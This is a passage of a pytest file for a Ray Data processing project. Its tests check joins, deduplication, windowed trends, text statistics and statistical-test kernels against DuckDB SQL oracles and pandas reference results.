    import ray.data as rd
    from series_correction_project_updated_ray.stages.windows import (
        window_trend)
    # perfect line: v = 2 + 0.5*t -> slope 0.5/s, intercept 2.0
    t = np.array([0, 10, 20, 30], dtype=np.int64)
    df = pd.DataFrame({"user_id": ["u"] * 4,
                       "ts": pd.to_datetime(t, unit="s"),
                       "value": 2.0 + 0.5 * t})
    out = window_trend(rd.from_pandas(df), width_s=3600).to_pandas()
    assert len(out) == 1
    assert out.loc[0, "slope"] == 0.5 and out.loc[0, "intercept"] == 2.0
    # single point and zero-time-variance cells -> NULL
    df2 = pd.DataFrame({"user_id": ["x", "y", "y"],
                        "ts": pd.to_datetime([5, 7, 7], unit="s"),
                        "value": [1.0, 2.0, 4.0]})
    out2 = window_trend(rd.from_pandas(df2), width_s=3600).to_pandas() \
        .sort_values("user_id").reset_index(drop=True)
    assert out2["slope"].isna().all()


def test_winsorize_events_matches_duckdb_and_drops_null_types(ray_session):
    import duckdb
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        winsorize_events)
    rng = np.random.default_rng(9)
    df = pd.DataFrame({
        "event_id": np.arange(400, dtype=np.int64),
        "event_type": rng.choice(["a", "b"], 400),
        "value": np.round(rng.uniform(0, 100, 400), 2)})
    # null-type rows must be DROPPED (the oracle's JOIN never matches)
    df.loc[df.index[:5], "event_type"] = None
    out = winsorize_events(rd.from_pandas(df)).to_pandas() \
        .sort_values("event_id").reset_index(drop=True)
    con = duckdb.connect()
    con.register("events_df", df)
    want = con.execute("""
        WITH thr AS (
          SELECT event_type, round(quantile_cont(value, 0.01), 6) AS lo,
                 round(quantile_cont(value, 0.99), 6) AS hi
          FROM events_df GROUP BY 1)
        SELECT e.event_id, e.event_type,
               round(least(greatest(e.value, thr.lo), thr.hi), 6) AS v_wins,
               least(greatest(e.value, thr.lo), thr.hi) != e.value
                 AS was_clipped
        FROM events_df e JOIN thr USING (event_type)
        ORDER BY event_id""").df()
    assert len(out) == 395
    assert (out["v_wins"] == want["v_wins"]).all()
    assert (out["was_clipped"] == want["was_clipped"]).all()
    assert out["was_clipped"].any()


def test_zscore_drops_null_event_types(ray_session):
    import duckdb
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        zscore_events)
    rng = np.random.default_rng(13)
    df = pd.DataFrame({
        "event_id": np.arange(300, dtype=np.int64),
        "event_type": rng.choice(["a", "b", "c"], 300),
        "value": np.round(rng.uniform(0, 100, 300), 2)})
    # null-type rows must be DROPPED (oracle JOIN never matches); before
    # the fix factorize's -1 code wrapped them onto the LAST unique type
    df.loc[df.index[:7], "event_type"] = None
    out = zscore_events(rd.from_pandas(df)).to_pandas() \
        .sort_values("event_id").reset_index(drop=True)
    assert len(out) == 293
    con = duckdb.connect()
    con.register("ev", df)
    want = con.execute("""
        WITH s AS (
          SELECT event_type, count(*) AS n,
                 CAST(sum(CAST(round(value*100) AS BIGINT)) AS DOUBLE)
                   AS sc,
                 CAST(sum(CAST(round(value*100) AS BIGINT)
                          * CAST(round(value*100) AS BIGINT)) AS DOUBLE)
                   AS sq
          FROM ev GROUP BY 1)
        SELECT e.event_id,
               round((CAST(round(e.value*100) AS BIGINT) - s.sc/s.n)
                     / sqrt(s.sq/s.n - (s.sc/s.n)*(s.sc/s.n)), 6) AS z
        FROM ev e JOIN s USING (event_type)
        ORDER BY e.event_id""").df()
    assert np.allclose(out["z"].to_numpy(np.float64),
                       want["z"].to_numpy(np.float64),
                       rtol=0, atol=0, equal_nan=True)

    # all-null batch must not raise (empty lut indexing)
    df2 = pd.DataFrame({
        "event_id": np.arange(4, dtype=np.int64),
        "event_type": pd.Series([None] * 4, dtype=object),
        "value": [1.0, 2.0, 3.0, 4.0]})
    out2 = zscore_events(rd.from_pandas(df2)).to_pandas()
    assert len(out2) == 0


def test_user_event_sequences_null_groups(ray_session):
    import duckdb
    import ray.data as rd
    from series_correction_project_updated_ray.stages.windows import (
        user_event_sequences)
    rng = np.random.default_rng(17)
    n = 200
    df = pd.DataFrame({
        "user_id": pd.Series(rng.choice(["u1", "u2"], n), dtype=object),
        "event_id": np.arange(n, dtype=np.int64),
        "event_type": pd.Series(rng.choice(["click", "view"], n),
                                dtype=object),
        "ts": pd.to_datetime(rng.integers(0, 5000, n), unit="s")})
    # a NULL user group (must stay its OWN group, not merge into the
    # last real user) and NULL event_types (string_agg skips them;
    # COUNT(*) keeps them)
    df.loc[df.index[:6], "user_id"] = None
    df.loc[df.index[10:13], "event_type"] = None
    out = user_event_sequences(rd.from_pandas(df)).to_pandas() \
        .sort_values("user_id", na_position="last") \
        .reset_index(drop=True)
    con = duckdb.connect()
    con.register("ev", df)
    want = con.execute("""
        SELECT user_id, string_agg(event_type, '->' ORDER BY ts, event_id)
                 AS seq,
               CAST(COUNT(*) AS BIGINT) AS n_events
        FROM ev GROUP BY 1 ORDER BY 1 NULLS LAST""").df()
    assert len(out) == 3
    pd.testing.assert_frame_equal(out, want)

    # an ALL-null-type group emits NULL seq (string_agg of nothing)
    df3 = pd.DataFrame({
        "user_id": ["x", "x"], "event_id": [0, 1],
        "event_type": pd.Series([None, None], dtype=object),
        "ts": pd.to_datetime([1, 2], unit="s")})
    out3 = user_event_sequences(rd.from_pandas(df3)).to_pandas()
    assert len(out3) == 1
    assert out3["seq"].isna().all()
    assert out3["n_events"].tolist() == [2]


def test_embedding_centroid_dist_drops_null_labels(ray_session):
    import ray.data as rd
    from series_correction_project_updated_ray.stages.similarity import (
        embedding_centroid_dist)
    rng = np.random.default_rng(7)
    n, d = 120, 8
    m = (rng.standard_normal((n, d)) * 0.5).astype(np.float32)
    labels = rng.integers(0, 2, n).astype(np.int32).astype(object)
    labels[:5] = None  # must be DROPPED, not folded into a centroid
    t = pa.table({
        "vec_id": pa.array(np.arange(n, dtype=np.int64)),
        "embedding": pa.array(list(m), pa.list_(pa.float32())),
        "label": pa.array(labels, pa.int32())})
    out = embedding_centroid_dist(rd.from_arrow(t)).to_pandas() \
        .sort_values("vec_id").reset_index(drop=True)
    assert len(out) == n - 5
    assert not set(range(5)) & set(out["vec_id"])
    # centroids must equal the null-free reference computation
    t_clean = t.filter(pa.compute.is_valid(t["label"]))
    want = embedding_centroid_dist(rd.from_arrow(t_clean)).to_pandas() \
        .sort_values("vec_id").reset_index(drop=True)
    assert (out["dist"].to_numpy() == want["dist"].to_numpy()).all()


def test_hash_join_outer_right_and_collapsed_keys(ray_session):
    """Arrow-probe BucketJoin vs the pandas reference on the flavors the
    old whole-frame merge handled implicitly: right/outer padding, the
    collapsed same-name key's coalesce, and >2^53 int keys through a
    LEFT join with null-bearing left keys (the float-degrade case)."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.joins import hash_join

    left_t = pa.table({"k": pa.array([1, 2, 2, None, 5], pa.int64()),
                       "lv": pa.array([10, 20, 21, 30, 50], pa.int64())})
    right_t = pa.table({"k2": pa.array([2, 2, 5, None, 7], pa.int64()),
                        "rv": pa.array([200, 201, 500, 900, 700],
                                       pa.int64())})
    left, right = left_t.to_pandas(), right_t.to_pandas()

    def ref(how):
        """SQL semantics: NULL keys never MATCH, but null-key rows of a
        side that survives unmatched still emit padded (RIGHT keeps the
        k2=NULL right row, FULL OUTER keeps both sides' null-key rows)."""
        l, r = left[left["k"].notna()], right[right["k2"].notna()]
        out = l.merge(r, left_on="k", right_on="k2", how=how)
        pads = []
        if how in ("left", "outer"):
            ln = left[left["k"].isna()].copy()
            ln["k2"] = np.nan
            ln["rv"] = np.nan
            pads.append(ln)
        if how in ("right", "outer"):
            rn = right[right["k2"].isna()].copy()
            rn["k"] = np.nan
            rn["lv"] = np.nan
            pads.append(rn)
        return pd.concat([out, *pads], ignore_index=True) if pads else out

    for how in ("right", "outer"):
        got = hash_join(rd.from_arrow(left_t), rd.from_arrow(right_t),
                        "k", "k2", how=how, n_buckets=4).to_pandas()
        want = ref(how)
        assert len(got) == len(want), how
        g = got.sort_values(["lv", "rv"], na_position="last") \
            .reset_index(drop=True).astype("float64")
        w = want.sort_values(["lv", "rv"], na_position="last") \
            .reset_index(drop=True).astype("float64")
        pd.testing.assert_frame_equal(g[sorted(g.columns)],
                                      w[sorted(w.columns)])

    # collapsed same-name key: outer join must coalesce left/right key
    # values into the single output column
    lc = pa.table({"k": pa.array([1, 2], pa.int64()),
                   "lv": pa.array([10, 20], pa.int64())})
    rc = pa.table({"k": pa.array([2, 3], pa.int64()),
                   "rv": pa.array([200, 300], pa.int64())})
    out = hash_join(rd.from_arrow(lc), rd.from_arrow(rc), "k", "k",
                    how="outer", n_buckets=2).to_pandas() \
        .sort_values("k").reset_index(drop=True)
    assert out["k"].tolist() == [1, 2, 3]
    assert str(out["k"].dtype) == "int64"  # never floatified
    assert out["lv"].fillna(-1).tolist() == [10, 20, -1]
    assert out["rv"].fillna(-1).tolist() == [-1, 200, 300]

    # >2^53 keys + null-bearing LEFT side through a LEFT join: the old
    # whole-frame to_pandas degraded the key column to float64 and two
    # adjacent huge keys became equal
    big = (1 << 60) + 12345
    lb = pa.table({"k": pa.array([big, big + 1, None], pa.int64()),
                   "lv": pa.array([1, 2, 3], pa.int64())})
    rb = pa.table({"k2": pa.array([big], pa.int64()),
                   "rv": pa.array([10], pa.int64())})
    obd = hash_join(rd.from_arrow(lb), rd.from_arrow(rb), "k", "k2",
                    how="left", n_buckets=2)
    # ARROW schema stays int64 (pandas renders the null-bearing column
    # as float64, but the engine never degrades the stored values)
    osch = dict(zip(obd.schema().names, obd.schema().types))
    assert str(osch["k"]) == "int64"
    ob = obd.to_pandas().sort_values("lv").reset_index(drop=True)
    assert len(ob) == 3
    # ONLY the exact key matches; big+1 must NOT match through a float
    assert ob["rv"].fillna(-1).tolist() == [10, -1, -1]
    # the huge keys round-trip exactly (nullable Int64 read, not float)
    kvals = pa.Table.from_pandas(ob)["k"]
    assert kvals.is_valid().to_pylist() == [True, True, False] or \
        ob["k"].notna().tolist() == [True, True, False]

    # composite-key left join with a null in ONE of the key columns
    l2 = pa.table({"a": pa.array([1, 1, None], pa.int64()),
                   "b": pa.array(["x", "y", "x"]),
                   "lv": pa.array([1, 2, 3], pa.int64())})
    r2 = pa.table({"a": pa.array([1], pa.int64()),
                   "b": pa.array(["x"]),
                   "rv": pa.array([10], pa.int64())})
    o2 = hash_join(rd.from_arrow(l2), rd.from_arrow(r2),
                   ["a", "b"], ["a", "b"], how="left",
                   n_buckets=2).to_pandas() \
        .sort_values("lv").reset_index(drop=True)
    assert o2["rv"].fillna(-1).tolist() == [10, -1, -1]


def test_embedding_near_dup_finds_planted_pairs(ray_session):
    """Planted near-identical vectors must pair up with exact cosine; the
    arrow-native kernel must agree with a direct numpy computation."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.dedup import (
        embedding_near_dup)
    rng = np.random.default_rng(3)
    n, d = 300, 64
    M = rng.standard_normal((n, d))
    # plant 5 near-dup pairs: tiny perturbations of the same vector
    for i in range(5):
        M[2 * i + 1] = M[2 * i] + rng.standard_normal(d) * 0.01
    t = pa.table({
        "vec_id": pa.array(np.arange(n, dtype=np.int64)),
        "embedding": pa.array(list(M.astype(np.float32)),
                              pa.list_(pa.float32()))})
    out = embedding_near_dup(rd.from_arrow(t), threshold=0.95, dim=d) \
        .to_pandas().sort_values(["id_a", "id_b"]).reset_index(drop=True)
    planted = {(2 * i, 2 * i + 1) for i in range(5)}
    got = set(zip(out["id_a"], out["id_b"]))
    # hyperplane LSH is recall-bounded; planted pairs are nearly
    # identical so almost all land in the same bucket — require >= 4/5
    assert len(planted & got) >= 4
    # cosine values match the direct computation for the found pairs
    Mf = M.astype(np.float32).astype(np.float64)
    Mn = Mf / np.maximum(np.linalg.norm(Mf, axis=1, keepdims=True), 1e-12)
    for a, b, c in zip(out["id_a"], out["id_b"], out["cosine"]):
        assert c == np.round(Mn[a] @ Mn[b], 6)
    # output ids keep the input's integer type
    assert str(out["id_a"].dtype) == "int64"


def test_cross_join_matches_pandas(ray_session):
    """cross_join == pandas how='cross' (clash suffixing, arrow types
    kept); hash_join rejects how='cross' with a pointer here."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.joins import (
        cross_join, hash_join)
    lf = pd.DataFrame({"a": [1, 2, 3], "v": [1.5, None, 2.5]})
    rf = pd.DataFrame({"b": ["x", "y"], "v": [10.0, 20.0]})
    got = cross_join(rd.from_pandas(lf), rd.from_pandas(rf)) \
        .to_pandas().sort_values(["a", "b"]).reset_index(drop=True)
    want = lf.rename(columns={"v": "v_l"}) \
        .merge(rf.rename(columns={"v": "v_r"}), how="cross") \
        .sort_values(["a", "b"]).reset_index(drop=True)
    pd.testing.assert_frame_equal(got[sorted(got.columns)],
                                  want[sorted(want.columns)],
                                  check_dtype=False)
    with pytest.raises(ValueError, match="cross_join"):
        hash_join(rd.from_pandas(lf), rd.from_pandas(rf), "a", "b",
                  how="cross")


def test_class_task_cache_keying_and_eviction(ray_session):
    """One instance per (class, ctor-args) per process; different args
    (incl. ObjectRefs) never share an instance; FIFO eviction bounds the
    cache; Ray object refs resolve inside the instance."""
    import ray
    from series_correction_project_updated_ray.stages import taskcache
    from series_correction_project_updated_ray.stages.taskcache import (
        class_task)

    built = []

    class Stage:
        def __init__(self, tag, ref=None):
            built.append(tag)
            self.tag = tag
            self.extra = ray.get(ref) if ref is not None else 0

        def __call__(self, batch):
            return {"tag": np.array([self.tag] * len(batch["x"])),
                    "v": batch["x"] + self.extra}

    taskcache._CACHE.clear()
    f1 = class_task(Stage, 1)
    f2 = class_task(Stage, 2, ref=ray.put(100))
    b = {"x": np.array([1, 2])}
    r1a = f1(b); r2 = f2(b); r1b = f1(b)
    assert built == [1, 2]                      # f1 reused, not rebuilt
    assert list(r2["v"]) == [101, 102]          # ref resolved
    assert list(r1b["v"]) == [1, 2]
    # eviction: pushing > _CACHE_MAX distinct stages drops the oldest
    for tag in range(3, 3 + taskcache._CACHE_MAX):
        class_task(Stage, tag)(b)
    assert len(taskcache._CACHE) == taskcache._CACHE_MAX
    n_built = len(built)
    f1(b)                                       # evicted → rebuilt
    assert len(built) == n_built + 1


def test_jsonl_documents_roundtrip(ray_session, tmp_path):
    """JSONL corpus → canonical documents schema → operators run on it
    unchanged → JSONL sink round-trips."""
    import json as _json

    import ray.data as rd
    from series_correction_project_updated_ray.sources.jsonl import (
        read_documents_jsonl, write_documents_jsonl)
    from series_correction_project_updated_ray.stages.dedup import (
        exact_dedup_survivors)

    src = tmp_path / "corpus.jsonl"
    rows = [
        {"doc_id": 1, "text": "alpha beta gamma", "source": "web",
         "extra": "x"},
        {"doc_id": 2, "text": "alpha beta gamma"},          # dup text
        {"doc_id": 3, "text": "delta epsilon", "source": None},
    ]
    with open(src, "w") as f:
        for r in rows:
            f.write(_json.dumps(r) + "\n")

    docs = read_documents_jsonl(str(src))
    df = docs.to_pandas().sort_values("doc_id").reset_index(drop=True)
    assert list(df.columns) == ["doc_id", "text", "source"]
    assert df["doc_id"].tolist() == ["1", "2", "3"]  # coerced to string
    assert df["source"].tolist() == ["web", "jsonl", "jsonl"]

    surv = exact_dedup_survivors(read_documents_jsonl(str(src)))
    assert sorted(surv.to_pandas()["doc_id"]) == ["1", "3"]

    out = tmp_path / "out"
    write_documents_jsonl(read_documents_jsonl(str(src)), str(out))
    back = read_documents_jsonl(str(out)).to_pandas() \
        .sort_values("doc_id").reset_index(drop=True)
    pd.testing.assert_frame_equal(back, df)


def test_props_field_stats_nulls_and_missing(ray_session):
    """Missing field and NULL props count as n_null (= SQL
    json_extract -> NULL); all-null groups emit NULL sum/min/max/mean
    like SQL aggregates over empty sets.  (Malformed JSON: the engine's
    regex yields null; DuckDB json_extract ERRORS — the oracle assumes
    valid JSON, which the corpus guarantees.)"""
    import duckdb
    import pyarrow as pa
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        props_field_stats)
    tbl = pa.table({
        "event_type": ["a", "a", "a", "b", "b", "c"],
        "props": ['{"k": 7}', '{"j": 1}', None,
                  '{"k": -3}', '{"k": 12}', '{"j": 9}'],
    })
    got = props_field_stats(rd.from_arrow(tbl).repartition(3)) \
        .to_pandas().sort_values("event_type").reset_index(drop=True)
    con = duckdb.connect()
    con.register("events", tbl)
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["props_field_stats"]).df() \
        .sort_values("event_type").reset_index(drop=True)
    cols = sorted(got.columns)
    pd.testing.assert_frame_equal(got[cols], want[cols], check_dtype=False)


def test_drawdown_null_keys_dropped():
    """NULL user_id rows emit no drawdown row — matching the oracle's
    equi-join, which drops the NULL group (review regression)."""
    from series_correction_project_updated_ray.stages.timeseries import (
        DrawdownGroup)
    df = pd.DataFrame({
        "user_id": pd.array([1, 1, None], dtype="Int64"),
        "event_id": np.arange(3, dtype=np.int64),
        "t": np.arange(3, dtype=np.int64) * 1_000_000,
        "value": [5.0, 3.0, 9.0],
    })
    out = DrawdownGroup()(df)
    assert len(out) == 1 and out["user_id"].iloc[0] == 1
    assert out["max_drawdown"].iloc[0] == 2.0
    assert len(DrawdownGroup()(df[df["user_id"].isna()])) == 0


def test_unigram_score_kernel_fold_order():
    """The per-doc fold is left-to-right in position order with libm
    logs (== list_reduce over list(lp ORDER BY pos)); empty-token docs
    are dropped; n_tok counts occurrences, not distinct terms."""
    import math

    import ray

    from series_correction_project_updated_ray.stages.textstage import (
        _UnigramScore)
    cnt = pa.table({"term": pa.array(["aa", "bb", "cc"]),
                    "cnt": pa.array([3, 2, 1], pa.int64())})
    refs = [ray.put(cnt)]
    docs = pa.table({
        "doc_id": pa.array([10, 11, 12], pa.int64()),
        "text": pa.array(["aa bb aa", "cc", "123 !!"]),
    })
    out = _UnigramScore(refs, 6)(docs).to_pandas().set_index("doc_id")
    lp = {t: math.log(c / 6.0) for t, c in
          zip(["aa", "bb", "cc"], [3.0, 2.0, 1.0])}
    want = ((lp["aa"] + lp["bb"]) + lp["aa"])
    assert out.loc[10, "logprob"] == round(want, 6)
    assert out.loc[10, "n_tok"] == 3
    assert out.loc[10, "avg_logprob"] == round(want / 3.0, 6)
    assert out.loc[11, "logprob"] == round(lp["cc"], 6)
    assert 12 not in out.index          # no [a-z]+ tokens


def test_unigram_logprob_ray_end_to_end(ray_session):
    """Dataset-level unigram_logprob over sf0.001 equals the SQL oracle
    (count shuffle + broadcast scoring must not disturb the fold)."""
    import duckdb

    import ray.data as rd
    from series_correction_project_updated_ray.stages.textstage import (
        unigram_logprob)
    sf = "/root/testdata/sf0.001/documents.parquet"
    got = unigram_logprob(
        rd.read_parquet(sf, columns=["doc_id", "text"])).to_pandas()
    con = duckdb.connect()
    con.execute(f"CREATE VIEW documents AS SELECT * FROM '{sf}'")
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["unigram_logprob"]).df()
    cols = sorted(got.columns)
    got = got[cols].sort_values("doc_id").reset_index(drop=True)
    want = want[cols].sort_values("doc_id").reset_index(drop=True)
    pd.testing.assert_frame_equal(got, want, check_dtype=False)


def test_zipf_close_rank_order_and_ties():
    """_ZipfClose ranks by (cnt DESC, term ASC), folds the
    least-squares sums left in rank order with libm logs, and emits
    nothing for <2 terms."""
    import math

    from series_correction_project_updated_ray.stages.textstage import (
        _ZipfClose)
    t = pa.table({"term": pa.array(["bb", "aa", "cc"]),
                  "cnt": pa.array([2, 4, 2], pa.int64())})
    out = _ZipfClose()(t).to_pandas()
    # rank order: aa(4), bb(2), cc(2) — tie broken by term ASC
    xs = [math.log(float(r)) for r in (1, 2, 3)]
    ys = [math.log(float(c)) for c in (4, 2, 2)]
    sx = sy = sxx = sxy = 0.0
    for x, y in zip(xs, ys):
        sx += x
        sy += y
        sxx += x * x
        sxy += x * y
    slope = (3.0 * sxy - sx * sy) / (3.0 * sxx - sx * sx)
    intercept = (sy - slope * sx) / 3.0
    assert out.loc[0, "n_terms"] == 3
    assert out.loc[0, "slope"] == round(slope, 6)
    assert out.loc[0, "intercept"] == round(intercept, 6)
    one = pa.table({"term": pa.array(["aa"]),
                    "cnt": pa.array([5], pa.int64())})
    assert len(_ZipfClose()(one)) == 0


def test_zipf_fit_ray_end_to_end(ray_session):
    """Dataset-level zipf_fit over sf0.001 equals the SQL oracle (the
    vocab shuffle + distributed top-k must select the same top set)."""
    import duckdb

    import ray.data as rd
    from series_correction_project_updated_ray.stages.textstage import (
        zipf_fit)
    sf = "/root/testdata/sf0.001/documents.parquet"
    got = zipf_fit(rd.read_parquet(sf, columns=["text"]),
                   top_k=1000).to_pandas()
    con = duckdb.connect()
    con.execute(f"CREATE VIEW documents AS SELECT * FROM '{sf}'")
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["zipf_fit"]).df()
    cols = sorted(got.columns)
    pd.testing.assert_frame_equal(
        got[cols].reset_index(drop=True),
        want[cols].reset_index(drop=True), check_dtype=False)


def test_big_orders_broadcast_join_dtypes(ray_session):
    """The Q18 chained broadcast joins preserve int keys and µs
    timestamps through the arrow→pandas→arrow round trip, fan out
    multi-order customers, and drop non-qualifying orders."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        big_orders)
    li = pa.table({
        "l_orderkey": pa.array([1, 1, 2, 3, 3, 3], pa.int64()),
        "l_quantity": pa.array([200.0, 150.0, 100.0, 300.0, 50.0, 1.5]),
    })
    orders = pa.table({
        "o_orderkey": pa.array([1, 2, 3], pa.int64()),
        "o_custkey": pa.array([7, 8, 7], pa.int64()),
        "o_totalprice": pa.array([10.5, 20.5, 30.5]),
        "o_orderdate": pa.array(
            pd.to_datetime(["2024-01-01", "2024-02-02", "2024-03-03"])
            .astype("datetime64[us]")),
    })
    cust = pa.table({
        "c_custkey": pa.array([7, 8], pa.int64()),
        "c_name": pa.array(["ann", "bob"]),
    })
    out = big_orders(rd.from_arrow(li).repartition(2),
                     rd.from_arrow(orders).repartition(2),
                     rd.from_arrow(cust).repartition(2),
                     min_qty=300.0).to_pandas() \
        .sort_values("o_orderkey").reset_index(drop=True)
    # orders 1 (350) and 3 (351.5) qualify, both for customer 7
    assert out["o_orderkey"].tolist() == [1, 3]
    assert out["c_name"].tolist() == ["ann", "ann"]
    assert out["sum_qty"].tolist() == [350.0, 351.5]
    assert out["o_orderkey"].dtype == np.int64
    assert out["o_orderdate"].tolist() == list(
        pd.to_datetime(["2024-01-01", "2024-03-03"]))


def test_big_orders_no_survivors_empty(ray_session):
    """Zero HAVING survivors must yield an empty result, not a
    KeyError from Ray's dropped all-empty blocks (review regression)."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        big_orders)
    li = pa.table({"l_orderkey": pa.array([1, 2], pa.int64()),
                   "l_quantity": pa.array([1.0, 2.0])})
    orders = pa.table({
        "o_orderkey": pa.array([1, 2], pa.int64()),
        "o_custkey": pa.array([7, 8], pa.int64()),
        "o_totalprice": pa.array([10.5, 20.5]),
        "o_orderdate": pa.array(
            pd.to_datetime(["2024-01-01", "2024-02-02"])
            .astype("datetime64[us]")),
    })
    cust = pa.table({"c_custkey": pa.array([7, 8], pa.int64()),
                     "c_name": pa.array(["ann", "bob"])})
    out = big_orders(rd.from_arrow(li), rd.from_arrow(orders),
                     rd.from_arrow(cust), min_qty=300.0)
    assert out.count() == 0


def test_unigram_logprob_tokenless_corpus_empty(ray_session):
    """A corpus with no [a-z]+ tokens yields a typed empty result, not
    int(None) from Dataset.sum on the empty count table (review
    regression)."""
    import ray.data as rd
    from series_correction_project_updated_ray.stages.textstage import (
        unigram_logprob)
    docs = pa.table({"doc_id": pa.array([1, 2], pa.int64()),
                     "text": pa.array(["123 456", "!!!"])})
    out = unigram_logprob(rd.from_arrow(docs))
    assert out.count() == 0
    assert set(out.schema().names) == {"doc_id", "n_tok", "logprob",
                                       "avg_logprob"}


def test_type_entropy_kernel_known_values():
    """Uniform 4-type distribution gives ln 4; single-type keys give 0;
    null keys drop."""
    import math

    from series_correction_project_updated_ray.stages.relational import (
        _EntropyGroup)
    g = pd.DataFrame({
        "user_id": pd.array([1, 1, 1, 1, 2, None], dtype="Int64"),
        "event_type": ["a", "b", "c", "d", "a", "a"],
        "c": np.array([5, 5, 5, 5, 7, 3], dtype=np.int64),
    })
    out = _EntropyGroup()(g).set_index("user_id")
    assert len(out) == 2
    assert out.loc[1, "entropy"] == round(math.log(4.0), 6)
    assert out.loc[1, "n_types"] == 4 and out.loc[1, "n_events"] == 20
    assert out.loc[2, "entropy"] == 0.0


def test_welch_ttest_edges(ray_session):
    """Types missing a cohort drop; a 1-event cohort yields NULL t;
    the full result matches the oracle SQL on the same frame."""
    import duckdb

    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        welch_ttest_weekend)
    ts = pd.to_datetime([
        "2024-01-01", "2024-01-02", "2024-01-06", "2024-01-07",  # a
        "2024-01-03", "2024-01-04",                              # b: wd only
        "2024-01-05", "2024-01-06",                              # c: 1 we
    ]).astype("datetime64[us]")
    tbl = pa.table({
        "event_type": pa.array(list("aaaabbcc")),
        "ts": pa.array(ts),
        "value": pa.array([10.0, 20.0, 30.0, 40.0, 5.0, 6.0, 7.0, 9.0]),
    })
    got = welch_ttest_weekend(rd.from_arrow(tbl).repartition(3)) \
        .to_pandas().sort_values("event_type").reset_index(drop=True)
    assert got["event_type"].tolist() == ["a", "c"]   # b drops
    assert np.isnan(got.loc[1, "t_stat"])             # c: n_weekend = 1
    con = duckdb.connect()
    con.register("events", tbl)
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["welch_ttest_weekend"]).df() \
        .sort_values("event_type").reset_index(drop=True)
    cols = sorted(got.columns)
    pd.testing.assert_frame_equal(got[cols], want[cols],
                                  check_dtype=False)


def test_ks_kernel_matches_literal():
    """The integer KS close equals a literal per-value ECDF scan, and
    identical cohorts give D = 0."""
    from series_correction_project_updated_ray.stages.relational import (
        _KsGroup)
    rng = np.random.default_rng(3)
    rows = []
    for ty, shift in (("a", 0), ("b", 30)):
        wd = rng.integers(0, 100, 40)
        we = rng.integers(0, 100, 25) + shift
        for v in wd:
            rows.append((ty, int(v), 1, 0))
        for v in we:
            rows.append((ty, int(v), 0, 1))
    rows.append(("only_wd", 5, 3, 0))     # single-cohort type drops
    g = pd.DataFrame(rows, columns=["event_type", "cents", "c1", "c2"])
    out = _KsGroup()(g).set_index("event_type")
    assert "only_wd" not in out.index
    for ty in ("a", "b"):
        sub = g[g["event_type"] == ty]
        vals = np.unique(sub["cents"])
        n1 = sub["c1"].sum()
        n2 = sub["c2"].sum()
        best = (-1, None)
        for v in sorted(vals):
            C1 = sub[sub["cents"] <= v]["c1"].sum()
            C2 = sub[sub["cents"] <= v]["c2"].sum()
            num = abs(int(n2) * int(C1) - int(n1) * int(C2))
            if num > best[0]:
                best = (num, v)
        assert out.loc[ty, "d_num"] == best[0]
        assert out.loc[ty, "at_value"] == best[1] / 100.0
        assert out.loc[ty, "d_stat"] == round(
            best[0] / (float(n1) * float(n2)), 6)
    # identical cohorts → D = 0 at the earliest value
    same = pd.DataFrame({
        "event_type": ["z"] * 3, "cents": [1, 2, 3],
        "c1": [2, 2, 2], "c2": [2, 2, 2]})
    z = _KsGroup()(same)
    assert z["d_num"].iloc[0] == 0 and z["at_value"].iloc[0] == 0.01


def test_mannwhitney_kernel_matches_literal():
    """The integer 2·U₁ pair count equals a literal all-pairs scan
    (wins + half-ties), ties are corrected in z, and single-cohort
    types drop."""
    from series_correction_project_updated_ray.stages.relational import (
        _MannWhitneyGroup)
    rng = np.random.default_rng(7)
    rows = []
    samples = {}
    for ty, shift in (("a", 0), ("b", 10)):
        wd = rng.integers(0, 30, 35)           # tie-heavy domain
        we = rng.integers(0, 30, 20) + shift
        samples[ty] = (wd, we)
        for v in wd:
            rows.append((ty, int(v), 1, 0))
        for v in we:
            rows.append((ty, int(v), 0, 1))
    rows.append(("only_wd", 5, 3, 0))
    g = pd.DataFrame(rows, columns=["event_type", "cents", "c1", "c2"])
    out = _MannWhitneyGroup()(g).set_index("event_type")
    assert "only_wd" not in out.index
    for ty, (wd, we) in samples.items():
        u2x = sum(2 if a > b else (1 if a == b else 0)
                  for a in wd for b in we)
        assert out.loc[ty, "u_num"] == u2x
        n1, n2 = len(wd), len(we)
        assert out.loc[ty, "u_stat"] == round(
            (u2x / 2.0) / (float(n1) * float(n2)), 6)
    # identical cohorts → u_stat = 0.5 exactly (all-ties symmetry)
    same = pd.DataFrame({
        "event_type": ["z"] * 3, "cents": [1, 2, 3],
        "c1": [2, 2, 2], "c2": [2, 2, 2]})
    z = _MannWhitneyGroup()(same)
    assert z["u_stat"].iloc[0] == 0.5


def test_mannwhitney_end_to_end_matches_oracle(ray_session):
    """Ray pipeline == oracle SQL on a small frame with a weekday-only
    type (drops) and a constant type (zero variance → NULL z)."""
    import duckdb

    import ray.data as rd
    from series_correction_project_updated_ray.stages.relational import (
        mannwhitney_weekend)
    ts = pd.to_datetime([
        "2024-01-01", "2024-01-02", "2024-01-06", "2024-01-07",  # a
        "2024-01-03", "2024-01-04",                              # b: wd only
        "2024-01-05", "2024-01-06",                              # c: const
    ]).astype("datetime64[us]")
    tbl = pa.table({
        "event_type": pa.array(list("aaaabbcc")),
        "ts": pa.array(ts),
        "value": pa.array([10.0, 20.0, 30.0, 40.0, 5.0, 6.0, 7.0, 7.0]),
    })
    got = mannwhitney_weekend(rd.from_arrow(tbl).repartition(3)) \
        .to_pandas().sort_values("event_type").reset_index(drop=True)
    assert got["event_type"].tolist() == ["a", "c"]   # b drops
    assert np.isnan(got.loc[1, "z_stat"])             # c: all ties
    con = duckdb.connect()
    con.register("events", tbl)
    import __ray_entry__ as E
    want = con.execute(E.oracle_sql()["mannwhitney_weekend"]).df() \
        .sort_values("event_type").reset_index(drop=True)
    cols = sorted(got.columns)
    pd.testing.assert_frame_equal(got[cols], want[cols],
                                  check_dtype=False)


